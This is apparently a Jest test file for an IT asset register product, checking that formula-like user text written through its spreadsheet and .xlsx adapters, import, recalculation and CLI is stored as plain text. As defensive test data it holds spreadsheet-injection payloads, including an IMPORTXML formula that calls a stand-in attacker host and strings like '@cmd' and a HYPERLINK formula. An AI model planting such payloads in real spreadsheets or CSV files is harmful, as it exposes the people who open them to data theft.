import ExcelJS from 'exceljs';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { rowForColumns, validateAssetInput } from '../../src/core/assets/assetInput';
import { decodeText } from '../../src/core/importing/textDecoding';
import { importRows } from '../../src/core/importing/importRows';
import { registerById } from '../../src/core/registers/definitions';
import { loadWorkbook } from '../../src/core/registers/loadWorkbook';
import { DEFAULT_SETTINGS } from '../../src/core/settings/settings';
import type { OutputSheet, OutputValue, WorkbookPort } from '../../src/core/workbook/port';
import { runRecalculation } from '../../src/gas/menuActions';
import { SpreadsheetPort } from '../../src/gas/spreadsheetPort';
import { runCli } from '../../src/node/cli';
import { XlsxWorkbookPort } from '../../src/node/xlsxPort';
import { registerRow, registerSheetName, writeBaseWorkbook } from '../corpus/baseWorkbook';
import { asGasSpreadsheet, installGasFakes, uninstallGasFakes, type GasFakes } from '../fakes';
import { installFaultWorld, portOf, uninstallFaultWorld } from '../faults/faultWorld';
import { FORMULA_LIKE_TEXT } from './hostileText';

/**
 * No user text ever becomes a formula. Every way the product writes text stores it as text on both
 * adapters and reads it back exactly as typed: output sheets, appended rows, updated ranges, the asset
 * panel, import, recalculation and the CLI. The only formulas are the product's own.
 */

/**
 * The formulas the product writes itself: the Dashboard's live counts over the Assets tab and the _itam
 * markers of .xlsx files. A sheet name inside quotes has its quotes doubled.
 */
const QUOTED_SHEET = "'(?:[^']|'')+'";
const PRODUCT_FORMULA = new RegExp(
  [
    `^=?COUNTIF\\(${QUOTED_SHEET}![A-Z]+:[A-Z]+,"[^"]*"\\)(?:\\+COUNTIF\\(${QUOTED_SHEET}![A-Z]+:[A-Z]+,"[^"]*"\\))*$`,
    `^=?COUNTA\\(${QUOTED_SHEET}![A-Z]+:[A-Z]+\\)-1$`,
    `^=?ROWS\\(${QUOTED_SHEET}!\\$1:\\$1048576\\)$`,
  ].join('|'),
);

function hostileOutput(): OutputSheet {
  return {
    id: 'securityProbe',
    name: 'Probe',
    preamble: ['=IMPORTXML("http://attacker.example","//a")'],
    blocks: [
      {
        title: '+1',
        columns: [
          { header: '@SUM(A1)', format: 'text' },
          { header: 'Live', format: 'integer' },
        ],
        rows: [...FORMULA_LIKE_TEXT.map((text): OutputValue[] => [text, null]), ['product formula', { formula: '=COUNTA(A:A)' }]],
      },
    ],
    protectionWarning: '-1+1',
  };
}

describe('SpreadsheetPort writes text as text', () => {
  let fakes: GasFakes;
  let port: SpreadsheetPort;

  beforeEach(() => {
    fakes = installGasFakes(globalThis, { spreadsheet: { sheets: [{ name: 'Notes', values: [['Header']] }] } });
    port = new SpreadsheetPort(asGasSpreadsheet(fakes.spreadsheet));
  });

  afterEach(() => {
    uninstallGasFakes(globalThis);
  });

  function range(sheet: string) {
    return fakes.uncounted(() => fakes.spreadsheet.getSheetByName(sheet)!.getDataRange());
  }

  test('appendRows', () => {
    port.appendRows(
      'Notes',
      FORMULA_LIKE_TEXT.map((text) => [text]),
    );

    const values = fakes.uncounted(() => range('Notes').getValues());
    const formulas = fakes.uncounted(() => range('Notes').getFormulas());
    expect(formulas.flat().filter((formula) => formula !== '')).toEqual([]);
    expect(values.slice(1).map((row) => row[0])).toEqual(FORMULA_LIKE_TEXT);
  });

  test('updateRange', () => {
    port.updateRange('Notes', 1, 2, [FORMULA_LIKE_TEXT.slice(0, 10), FORMULA_LIKE_TEXT.slice(10, 20)]);

    expect(fakes.uncounted(() => range('Notes').getFormulas()).flat().filter((formula) => formula !== '')).toEqual([]);
    expect(fakes.uncounted(() => range('Notes').getValues()).map((row) => row.slice(1))).toEqual([FORMULA_LIKE_TEXT.slice(0, 10), FORMULA_LIKE_TEXT.slice(10, 20)]);
  });

  test('writeOutputSheet: only the FormulaCell is a formula', () => {
    port.writeOutputSheet(hostileOutput());

    const formulas = fakes.uncounted(() => range('Probe').getFormulas()).flat().filter((formula) => formula !== '');
    const values = fakes.uncounted(() => range('Probe').getValues()).flat();
    expect(formulas).toEqual(['=COUNTA(A:A)']);
    for (const text of [...FORMULA_LIKE_TEXT, '=IMPORTXML("http://attacker.example","//a")', '+1', '@SUM(A1)']) {
      expect(values).toContain(text);
    }
  });
});

describe('XlsxWorkbookPort writes text as text', () => {
  let folder: string;

  beforeAll(async () => {
    folder = await fs.mkdtemp(path.join(os.tmpdir(), 'itam-formula-'));
  });

  afterAll(async () => {
    await fs.rm(folder, { recursive: true, force: true });
  });

  test('appendRows, updateRange and writeOutputSheet survive save and open', async () => {
    const port = XlsxWorkbookPort.create();
    port.ensureRegisterSheet({ registerId: 'notes', name: 'Notes', headers: ['Header', 'Second'], notes: ['', ''], formats: ['text', 'text'], validations: [] }, null);
    port.appendRows(
      'Notes',
      FORMULA_LIKE_TEXT.map((text) => [text, null]),
    );
    port.updateRange('Notes', 2, 2, [['=1+1'], ['\r=1']]);
    port.writeOutputSheet(hostileOutput());
    const file = path.join(folder, 'probe.xlsx');
    await port.save(file);

    const reopened = await XlsxWorkbookPort.open(file);
    expect(reopened.readValues('Notes').slice(1).map((row) => row[0])).toEqual(FORMULA_LIKE_TEXT);
    expect(reopened.readValues('Notes').slice(1, 3).map((row) => row[1])).toEqual(['=1+1', '\r=1']);
    const raw = new ExcelJS.Workbook();
    await raw.xlsx.readFile(file);
    const formulas: string[] = [];
    raw.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) {
            formulas.push(`${sheet.name}!${cell.address}: ${cell.formula}`);
          }
        }),
      ),
    );
    expect(formulas.filter((formula) => !formula.startsWith('_itam!'))).toEqual(['Probe!B26: COUNTA(A:A)']);
  });
});

/** Lists every formula on every tab of the fake spreadsheet that the product did not write itself. */
function foreignFormulas(fakes: GasFakes): string[] {
  return fakes.uncounted(() =>
    fakes.spreadsheet.getSheets().flatMap((sheet) =>
      sheet
        .getDataRange()
        .getFormulas()
        .flat()
        .filter((formula) => formula !== '' && !PRODUCT_FORMULA.test(formula))
        .map((formula) => `${sheet.getName()}: ${formula}`),
    ),
  );
}

describe('hostile register text through the whole product', () => {
  afterEach(() => {
    uninstallFaultWorld();
  });

  test('recalculation, asset panel and import write no formula', () => {
    const fakes = installFaultWorld('en');
    const port = portOf(fakes);
    const assets = registerSheetName(port, 'assets');
    port.appendRows(
      assets,
      FORMULA_LIKE_TEXT.slice(0, 10).map((text, index) =>
        registerRow('assets', { assetTag: `X-${index}`, name: text, category: 'HW', status: 'deployed', department: text, notes: text, purchaseDate: { date: '2025-01-02' }, purchaseCost: 1000 }),
      ),
    );
    fakes.uncounted(() => fakes.spreadsheet.getSheetByName(assets)!.setName('Bob\'s "=IMPORTXML(1)"'));

    expect(runRecalculation()).not.toBeNull();
    expect(foreignFormulas(fakes)).toEqual([]);

    const loaded = loadWorkbook(portOf(fakes));
    const panel = validateAssetInput(
      { name: '=IMPORTXML("http://attacker.example","//a")', category: 'HW', status: 'deployed', assignedTo: '@SUM(A1)', notes: '\t=1' },
      { lang: 'en', settings: loaded.settings, asOf: '2025-06-30', existingTags: loaded.data.assets.map((asset) => asset.assetTag ?? '') },
    );
    if (!panel.ok) {
      throw new Error(`The panel payload was rejected: ${JSON.stringify(panel.errors)}`);
    }
    const location = loaded.locations.assets!;
    portOf(fakes).appendRows(location.sheetName, [rowForColumns(location.columns, panel.values, Object.keys(location.columns).length)]);

    const csv = decodeText(new Uint8Array(Buffer.from('Asset Tag,Name,Category,Status,Notes\nCSV-1,"=HYPERLINK(""http://x"",""y"")",HW,deployed,+1\nCSV-2,-1+1,HW,deployed,@cmd\n')));
    const imported = importRows({ kind: 'csv', decoded: csv }, registerById('assets'), null, { source: 'generic', dateOrder: null, asOf: '2025-06-30', settings: DEFAULT_SETTINGS, lang: 'en' });
    expect(imported.accepted).toHaveLength(2);
    portOf(fakes).appendRows(
      location.sheetName,
      imported.accepted.map((row) => [...row.values]),
    );

    expect(runRecalculation()).not.toBeNull();
    expect(foreignFormulas(fakes)).toEqual([]);
    const names = loadWorkbook(portOf(fakes)).data.assets.map((asset) => asset.name);
    expect(names).toEqual(expect.arrayContaining(['=IMPORTXML("http://attacker.example","//a")', '=HYPERLINK("http://x","y")', '-1+1', ...FORMULA_LIKE_TEXT.slice(0, 10).map((text) => text.trim())]));
  });
});

describe('itam recalc writes no formula from cells', () => {
  test('only dashboard counts and markers are formulas', async () => {
    const folder = await fs.mkdtemp(path.join(os.tmpdir(), 'itam-formula-cli-'));
    try {
      const file = path.join(folder, 'hostile.xlsx');
      const port: WorkbookPort & { save(file: string): Promise<void> } = XlsxWorkbookPort.create({ locale: 'ko_KR' });
      writeBaseWorkbook(port, 'ko');
      port.appendRows(
        registerSheetName(port, 'assets'),
        FORMULA_LIKE_TEXT.slice(0, 10).map((text, index) => registerRow('assets', { assetTag: `X-${index}`, name: text, category: 'HW', status: '사용중', investment: text })),
      );
      await port.save(file);

      const code = await runCli(['recalc', file, '--as-of', '2025-06-30'], { stdout: () => undefined, stderr: () => undefined, env: {}, now: () => new Date() });

      expect(code).toBe(0);
      const raw = new ExcelJS.Workbook();
      await raw.xlsx.readFile(file);
      const foreign: string[] = [];
      raw.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula && !PRODUCT_FORMULA.test(cell.formula)) {
              foreign.push(`${sheet.name}!${cell.address}: ${cell.formula}`);
            }
          }),
        ),
      );
      expect(foreign).toEqual([]);
    } finally {
      await fs.rm(folder, { recursive: true, force: true });
    }
  });
});
